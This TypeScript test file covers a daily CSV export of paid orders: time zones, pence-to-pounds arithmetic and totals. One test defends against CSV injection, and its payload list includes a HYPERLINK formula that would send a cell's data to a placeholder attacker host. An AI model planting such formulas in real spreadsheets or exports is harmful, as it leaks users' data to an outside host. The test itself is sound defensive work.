import { parseCsv } from '@/lib/csv'
import { penceAsPounds } from '@/lib/money'
import { paidDayCsv } from '@/orders/queue/figures-csv'

const WORDS = {
  csvReference: 'Order number',
  csvPaidAt: 'Paid at',
  csvDevices: 'Devices',
  csvModels: 'Models',
  csvAmount: 'Amount (GBP)',
  csvTotal: 'Total',
  csvMethod: 'Method',
  csvPaidBy: 'Paid by',
}

describe('the accountant’s day sheet', () => {
  it('has a row per order, pence exact, and a total row, in London time', () => {
    const csv = paidDayCsv(
      [
        {
          reference: 'HB-AAAA-AAAA',
          paidAt: new Date('2026-07-01T23:30:00Z'),
          devices: ['Apple iPhone 13', 'Apple iPad'],
          pence: 25_001,
          method: 'bank',
          paidBy: 'faster-payments pay_01H8',
        },
        {
          reference: 'HB-BBBB-BBBB',
          paidAt: new Date('2026-12-02T09:05:00Z'),
          devices: ['Google Pixel 7, 128GB'],
          pence: 99,
          method: 'bank',
          paidBy: 'PR-261202-0900-K7Q',
        },
      ],
      WORDS,
    )
    expect(csv.startsWith('\uFEFF')).toBe(true)
    expect(parseCsv(csv)).toEqual([
      ['Order number', 'Paid at', 'Devices', 'Models', 'Amount (GBP)', 'Method', 'Paid by'],
      [
        'HB-AAAA-AAAA',
        '2026-07-02 00:30:00',
        '2',
        'Apple iPhone 13; Apple iPad',
        '250.01',
        'bank',
        'faster-payments pay_01H8',
      ],
      ['HB-BBBB-BBBB', '2026-12-02 09:05:00', '1', 'Google Pixel 7, 128GB', '0.99', 'bank', 'PR-261202-0900-K7Q'],
      ['Total', '', '3', '', '251.00', '', ''],
    ])
  })

  it('says an empty day with a zero total', () => {
    expect(parseCsv(paidDayCsv([], WORDS)).at(-1)).toEqual(['Total', '', '0', '', '0.00', '', ''])
  })

  // OWASP's CSV injection: a model's name, or a word of the content, that a spreadsheet would run.
  it('never hands a spreadsheet a formula, from the devices or from the words', () => {
    const formulas = ['=HYPERLINK("http://evil.example/?"&A2,"Open")', '+1+2', '-3+4', '@SUM(A1)', '\tTab', '\rCR']
    const csv = paidDayCsv(
      formulas.map((device, index) => ({
        reference: `HB-${index}`,
        paidAt: new Date('2026-07-02T10:00:00Z'),
        devices: [device],
        pence: 100,
        method: 'bank',
        paidBy: '',
      })),
      { ...WORDS, csvTotal: '=1+1', csvModels: '@Models' },
    )
    const cells = parseCsv(csv).flat()
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
    expect(cells).toContain(`'${formulas[0]}`)
    expect(cells).toContain("'=1+1")
    expect(cells).toContain("'@Models")
  })

  it('writes pence as pounds by whole-number arithmetic, and refuses a fraction', () => {
    expect([0, 5, 100, 15_205, 123_456_789].map(penceAsPounds)).toEqual([
      '0.00',
      '0.05',
      '1.00',
      '152.05',
      '1234567.89',
    ])
    expect(() => penceAsPounds(1.5)).toThrow(RangeError)
    expect(() => penceAsPounds(-1)).toThrow(RangeError)
  })
})
